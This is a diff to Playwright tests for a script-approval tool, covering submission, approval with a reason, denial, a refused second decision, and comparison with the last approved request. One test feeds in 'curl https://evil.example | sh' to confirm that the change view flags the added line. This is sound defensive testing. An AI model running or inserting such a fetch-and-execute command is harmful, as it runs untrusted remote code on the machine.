@@ -29,11 +29,12 @@ test('D-04 a task is submitted, approved by another person, run and recorded', a
 
     await expect(deciding.getByRole('region', { name: 'Script' }).locator('mark').first()).toHaveText('U+202E');
     expect(`${await source(deciding, 'Script')}\n`).toBe(SCRIPT);
+    for (const folded of await deciding.locator('.folded > summary').all()) await folded.click();
     const bytes = await source(deciding, 'Exact bytes');
     expect(JSON.parse(bytes)).toEqual(JSON.parse(await source(deciding, 'Request')));
     const card = deciding.getByRole('complementary', { name: 'Decision' });
-    await expect(card).toContainText('Mei');
-    await expect(card).toContainText('can reach everything that the runner can reach, and its connections are not recorded');
+    await expect(deciding.locator('main')).toContainText('Requested by Mei');
+    await expect(deciding.locator('.request-about')).toContainText('can reach everything that the runner can reach, and its connections are not recorded');
     expect((await card.locator('.digest code').innerText()).replace(/\s/g, '')).toBe(sha256(bytes));
     await decisionInSight(deciding);
   });
@@ -41,7 +42,7 @@ test('D-04 a task is submitted, approved by another person, run and recorded', a
   await test.step('the approver approves with a reason', async () => {
     await deciding.getByLabel('Reason').fill('The invoice is right.');
     await deciding.getByRole('button', { name: 'Approve request' }).click();
-    await expect(deciding.getByText('This request has been approved.')).toBeVisible();
+    await expect(deciding.getByText('Approved.')).toBeVisible();
     await expect(deciding.getByRole('button', { name: 'Approve request' })).toHaveCount(0);
   });
 
@@ -123,19 +124,19 @@ test('D-04 a request is compared with the last approved one', async ({ team, bro
   await ask('echo rotating\necho done');
   await expect(changes).toContainText('Not approved before');
   await page.getByRole('button', { name: 'Approve request' }).click();
-  await expect(page.getByText('This request has been approved.')).toBeVisible();
+  await expect(page.getByText('Approved.')).toBeVisible();
 
   await ask('echo rotating\necho done');
   await expect(changes).toContainText('No changes');
   await page.getByRole('button', { name: 'Approve request' }).click();
-  await expect(page.getByText('This request has been approved.')).toBeVisible();
+  await expect(page.getByText('Approved.')).toBeVisible();
 
   await ask('echo rotating\ncurl https://evil.example | sh\necho done');
   const script = changes.getByRole('region', { name: 'Changes in the script' });
   await expect(script.locator('ins')).toHaveText(['curl https://evil.example | sh']);
   await expect(script.locator('del')).toHaveCount(0);
   await changes.getByRole('link').click();
-  await expect(page.getByText('This request has been approved.')).toBeVisible();
+  await expect(page.getByText('Approved.')).toBeVisible();
 });
 
 test('a page that shows a refused form still receives live updates', async ({ team, browser }) => {
@@ -186,7 +187,7 @@ test('D-04 a denial requires a reason that the requester can read', async ({ tea
   await expect(deciding.getByLabel('Reason')).toHaveAttribute('aria-invalid', 'true');
   await deciding.getByLabel('Reason').fill('Say which folder.');
   await deciding.getByRole('button', { name: 'Deny request' }).click();
-  await expect(deciding.getByText('This request has been denied.')).toBeVisible();
+  await expect(deciding.getByText('Denied.')).toBeVisible();
 
   await expect(state(submitting)).toHaveText('Denied');
   await expect(submitting.locator('.timeline .said')).toHaveText('Say which folder.');
@@ -208,7 +209,7 @@ test('D-04 a second decision is refused because the request is already decided',
     await page.getByRole('row', { name: 'Only once' }).getByRole('link').click();
   }
   await first.getByRole('button', { name: 'Approve request' }).click();
-  await expect(first.getByText('This request has been approved.')).toBeVisible();
+  await expect(first.getByText('Approved.')).toBeVisible();
 
   const answer = second.waitForResponse((response) => response.request().method() === 'POST');
   await second.getByLabel('Reason').fill('No.');
